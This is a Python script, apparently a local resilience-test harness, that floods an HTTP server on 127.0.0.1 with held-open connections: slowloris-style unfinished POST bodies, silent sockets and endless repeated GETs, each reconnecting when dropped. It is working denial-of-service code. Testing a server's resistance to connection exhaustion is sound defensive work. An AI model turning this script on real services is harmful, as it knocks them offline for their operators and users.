"""Connections that want to keep a receiver busy: `attack.py KIND PORT COUNT BYTES PATH`, until it is ended.

bodies  each promises BYTES and sends one less; whoever is sent away comes again
silent  each sends nothing; whoever is sent away comes again
keyless each asks PATH again and again

It prints a line when every connection has been open once.
"""

import asyncio
import contextlib
import resource
import sys
from collections.abc import Awaitable, Callable

PAUSE = 1.0  # seconds until one that was sent away comes again
OPENED_TOGETHER = 100
PIECE = b"x" * 65_536

Line = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def bodies(line: Line, path: str, count: int) -> None:
    """All of a body but its last byte, then nothing."""
    reader, writer = line
    writer.write(
        f"POST {path} HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
        f"content-length: {count}\r\n\r\n".encode()
    )
    left = count - 1
    while left:
        piece = PIECE[:left]
        writer.write(piece)
        left -= len(piece)
        await writer.drain()
    await reader.read()


async def silent(line: Line, _path: str, _count: int) -> None:
    """Nothing at all."""
    await line[0].read()


async def keyless(line: Line, path: str, _count: int) -> None:
    """The same question, again and again."""
    reader, writer = line
    while True:
        writer.write(f"GET {path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n".encode())
        head = await reader.readuntil(b"\r\n\r\n")
        await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))


KINDS: dict[str, Callable[[Line, str, int], Awaitable[None]]] = {
    "bodies": bodies,
    "silent": silent,
    "keyless": keyless,
}


async def attack(kind: str, port: int, count: int, size: int, path: str) -> None:
    """Open all connections, and keep them open."""
    turns, opened = asyncio.Semaphore(OPENED_TOGETHER), asyncio.Semaphore(0)

    async def one() -> None:
        first = True
        while True:
            with contextlib.suppress(OSError, EOFError):
                async with turns:
                    line = await asyncio.open_connection("127.0.0.1", port)
                if first:
                    opened.release()
                    first = False
                try:
                    await KINDS[kind](line, path, size)
                finally:
                    line[1].transport.abort()
            await asyncio.sleep(PAUSE)

    tasks = [asyncio.create_task(one()) for _ in range(count)]
    for _ in tasks:
        await opened.acquire()
    print("open", flush=True)  # noqa: T201 -- to whoever started it
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kind, port, count, size, path = sys.argv[1:]
    asyncio.run(attack(kind, int(port), int(count), int(size), path))
